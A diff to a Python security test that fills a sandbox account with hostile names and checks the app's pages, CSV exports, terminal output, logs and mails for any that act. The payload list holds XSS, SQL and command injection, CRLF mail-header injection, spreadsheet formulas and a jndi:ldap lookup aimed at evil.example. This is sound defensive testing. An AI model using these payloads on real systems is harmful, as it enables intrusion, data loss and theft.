@@ -1,22 +1,38 @@
 """Tries what should be refused: `python -m finale_pipeline_tests.attack`.
 
-Starts all of `finale dev` in a folder of its own, asks every path of both ports as a stranger, as
-one who may only read, and as a page of another site would make a browser ask, looks at its files
-as another user of the machine, and prints what was tried, refused and wrong.
+Starts all of `finale dev` in a folder of its own, with an account whose names are hostile in every
+field that people fill in Finale; asks every path of both ports as a stranger, as one who may only
+read, and as a page of another site would make a browser ask; looks at its files as another user of
+the machine, and at pages, exports, terminal, mails and logs for names that act instead of being
+shown. Prints what was tried, refused and wrong.
 """
 
+import csv
+import io
+import json
+import re
 import stat
+import subprocess
 import tempfile
 from collections import Counter
 from collections.abc import Iterator
+from contextlib import ExitStack
 from dataclasses import dataclass, field
+from datetime import UTC, datetime
 from pathlib import Path
+from urllib.parse import quote
 
 import httpx
 from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 
+from finale_pipeline.sandbox.account import Account
+from finale_pipeline.sandbox.handler import KEY, SECRET
+from finale_pipeline.sandbox.invented import invented_account
+from finale_pipeline.sandbox.records import encoded
+from finale_pipeline.sandbox.server import SandboxServer
 from finale_pipeline_tests.live import Live
+from finale_pipeline_tests.processes import command
 
 WRITE, READ = "w" * 32, "r" * 32
 PUBLIC = ("/livez", "/readyz", "/style.css", "/server_info", "/runbooks/", "/decide/")
@@ -32,6 +48,41 @@ FOREIGN = (
     {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
     {"Host": "evil.example"},
 )
+
+
+ALPHABET = (
+    "<script>alert('owned')</script>", "<img src=x onerror=alert('owned')>",
+    "![](http://evil.example/x.png)", '=HYPERLINK("http://evil.example","click")',
+    "box;=1+1;", "\uff1d1+1", "Tea\r\nBcc: everyone@evil.example", "\x1b[31m\x1b]0;owned\x07red",
+    "\u202egnp.exe\u202c cake", "/../../../tmp/owned", "{{7*7}}%s{% include '/etc/passwd' %}",
+    "'; DROP TABLE core.product; --", "\N{GRINNING FACE}" * 16, "[]:*?/\\", "x" * 300_000,
+    "${jndi:ldap://evil.example/a}", "`touch /tmp/owned`", "a\tb\x85c\u2028d", "",
+)  # fmt: skip
+"""Names that attack whoever shows them: browsers, spreadsheets, terminals, mails, paths, logs."""
+FILLED = {
+    "product": ("internalName", "longDescription", "category", "manufacturerName",
+                "universalProductCode"),
+    "partygroup": ("groupName",),
+    "facility": ("facilityName",),
+}  # fmt: skip
+"""Fields that people fill in Finale, by collection."""
+ACTING = ("<script>alert", "<img src=x", "\x1b", "\u202e", "\x07")
+
+
+def hostile_account() -> Account:
+    """Return an account in which each name is one of the alphabet."""
+    account = invented_account(products=200, years=0.4)
+    for collection, fields in FILLED.items():
+        table = account.tables[collection]
+        for number, place in enumerate(table.places()):
+            names = {
+                name: ALPHABET[(number + shift) % len(ALPHABET)]
+                for shift, name in enumerate(fields)
+            }
+            record = {**table.record(place), **encoded(names)}
+            stamp = datetime.fromisoformat(json.loads(record["lastUpdatedDate"]))
+            table.put(int(stamp.replace(tzinfo=UTC).timestamp()), record, place=place)
+    return account
 
 
 @dataclass
@@ -106,14 +157,72 @@ def _try_files(result: Result, home: Path) -> None:
             result.expect("another user", f"{file} {mode:o}", refused=not mode & 0o077)
 
 
+def attack_by_names(result: Result, api: httpx.Client, live: Live) -> None:
+    """Look for names that act, wherever they are shown."""
+    given = api.get("/openapi.json", auth=("a", WRITE)).json()["paths"]
+    shown = [*PAGES, *(path for path, methods in given.items() if "get" in methods)]
+    skus = live.rows("SELECT sku FROM core.product ORDER BY sku LIMIT 40")
+    shown += [f"/products/{quote(str(sku), safe='')}" for (sku,) in skus]
+    for path in dict.fromkeys(shown):
+        answer = api.get(path, auth=("a", WRITE))
+        kind = answer.headers.get("content-type", "")
+        result.expect("a name", f"{path}: {answer.status_code}", refused=answer.status_code < 500)
+        if "html" in kind:
+            acts = [text for text in ACTING if text in answer.text]
+            result.expect("a name on a page", f"{path}: {acts}", refused=not acts)
+        if "csv" in kind:
+            _try_cells(result, path, answer.text)
+    for arguments in (["status"], ["alerts", "list"], ["explain", str(skus[0][0])],
+                      ["orders", "draft", "--dry-run", "--format", "csv"]):  # fmt: skip
+        ran = subprocess.run(
+            command(*arguments), env=live.environment, cwd=live.home, capture_output=True,
+            text=True, check=False, timeout=120,
+        )  # fmt: skip
+        said = ran.stdout + ran.stderr
+        acts = [text for text in ("\x1b", "\x07", "\u202e", "Traceback") if text in said]
+        result.expect("a name in a terminal", f"{arguments}: {acts}", refused=not acts)
+    for file in (live.home / "logs").glob("*.log"):
+        acts = [text for text in ("\x1b", "Bcc: everyone", "\u202e") if text in file.read_text()]
+        result.expect("a name in a log", f"{file.name}: {acts}", refused=not acts)
+    mails = live.rows("SELECT subject, body_text, body_html FROM ops.outbox")
+    for subject, text, html in mails:
+        acts = [a for a in ACTING if a in str(html)] + [a for a in ("\n", "\r") if a in subject]
+        acts += [a for a in ("\x1b", "\u202e", "\nBcc:") if a in str(text)]
+        result.expect("a name in a mail", f"{subject}: {acts}", refused=not acts)
+    result.expect("a name", "a file outside of the home", refused=not Path("/tmp/owned").exists())  # noqa: S108
+
+
+def _try_cells(result: Result, path: str, text: str) -> None:
+    """Read an export as programs with each kind of separator do."""
+    for separator in ",;\t":
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
+        acts = [c for c in cells if re.match(r"[\s\"']*[=+\-@＝＋－＠]", c) and not _is_number(c)  # noqa: RUF001
+                and not c.startswith("'")]  # fmt: skip
+        result.expect("a name in a cell", f"{path} {separator!r}: {acts[:2]}", refused=not acts)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
 def main() -> None:
     """Start it, attack it, print a table."""
     with tempfile.TemporaryDirectory(prefix="finale") as folder:
         Path(folder).chmod(0o711)
         home = Path(folder) / "home"
         home.mkdir(mode=0o711)
-        given = {"FINALE_API_TOKEN": WRITE, "FINALE_API_READ_TOKEN": READ}
-        with Live(home, FINALE_SANDBOX_PRODUCTS="200", **given) as live:
+        with ExitStack() as stack:
+            sandbox = stack.enter_context(SandboxServer(hostile_account(), rate_limits=None))
+            given = {
+                "FINALE_API_TOKEN": WRITE, "FINALE_API_READ_TOKEN": READ,
+                "FINALE_BASE_URL": sandbox.base_url, "FINALE_ACCOUNT": "demo",
+                "FINALE_API_KEY": KEY, "FINALE_API_SECRET": SECRET,
+            }  # fmt: skip
+            live = stack.enter_context(Live(home, **given))
             urls = [f"http://127.0.0.1:{live.ports[name]}" for name in ("API", "UI")]
             for url, path in zip(urls, ("/readyz", "/server_info"), strict=True):
                 live.until(lambda u=url + path: _answers(u), f"{url} answers")  # type: ignore[misc]
@@ -121,7 +230,9 @@ def main() -> None:
                 httpx.Client(base_url=urls[0], trust_env=False, timeout=60) as api,
                 httpx.Client(base_url=urls[1], trust_env=False, timeout=60) as ui,
             ):
+                live.until(lambda: live.rows("SELECT FROM plan.forecast LIMIT 1"), "the first plan")
                 result = attack(api, ui, home)
+                attack_by_names(result, api, live)
     print("| who | tried |\n| --- | --- |")
     for who, number in result.tried.items():
         print(f"| {who} | {number} |")
